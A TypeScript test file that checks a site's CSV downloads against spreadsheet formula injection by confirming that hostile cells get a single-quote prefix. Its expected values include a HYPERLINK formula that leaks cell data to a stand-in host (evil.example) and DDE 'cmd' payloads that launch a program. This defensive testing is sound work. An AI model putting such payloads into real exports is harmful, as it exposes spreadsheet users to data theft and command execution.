import { en } from '../helpers/context.ts';
import { rmSync } from 'node:fs';
import { csvParse, csvParseRows } from 'd3-dsv';
import { afterAll, describe, expect, it } from 'vitest';
import { countriesCsv, countriesDownloadData, neutraliseFormula, visitsCsv, visitsDownloadData } from '../../src/outputs/downloads.ts';
import { siteDataFrom } from '../helpers/content.ts';
import { fixtureTree } from '../helpers/fixture-tree.ts';

const tree = fixtureTree('csv-injection');
afterAll(() => rmSync(tree, { recursive: true, force: true }));
const data = siteDataFrom(tree);

/** What a spreadsheet would treat as a formula: a cell starting with one of OWASP's trigger characters. */
const live = (cell: string) => /^[=+\-@\t\r]/.test(cell);

describe('CSV downloads are safe against formula injection', () => {
  it('writes hostile text from the content as inert text, prefixed with a single quote', () => {
    const rows = csvParse(visitsCsv(visitsDownloadData(data).visits));
    expect(rows).toHaveLength(1);
    const row = rows[0]!;
    expect(row.event).toBe(`'=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")`);
    expect(row.counterpart).toBe(`'=cmd|' /C calc'!A0`);
    expect(row.cities).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0 | -2+3`);
    for (const cell of csvParseRows(visitsCsv(visitsDownloadData(data).visits)).flat()) expect(live(cell), cell).toBe(false);
  });

  it('keeps numbers as numbers and leaves ordinary text alone', () => {
    expect(neutraliseFormula(-99.1332)).toBe(-99.1332);
    expect(neutraliseFormula(0)).toBe(0);
    expect(neutraliseFormula('Xi Jinping (President of China)')).toBe('Xi Jinping (President of China)');
    expect(neutraliseFormula('-99.1332')).toBe("'-99.1332");
    expect(neutraliseFormula('\tx')).toBe("'\tx");
    expect(neutraliseFormula('\rx')).toBe("'\rx");
    expect(neutraliseFormula('+1')).toBe("'+1");
    // The negative longitude stays a number in the JSON download it belongs to.
    expect(visitsDownloadData(data).visits[0]!.cities[1]!.lon).toBe(-99.1332);
    const countries = csvParse(countriesCsv(countriesDownloadData(en, data, new URL('https://example.org'))));
    expect(countries.filter((c) => c.writtenProfile === 'true').map((c) => c.visitCount)).toEqual(['0', '1']);
    expect(countries.every((c) => /^\d+$/.test(c.visitCount!))).toBe(true);
  });
});
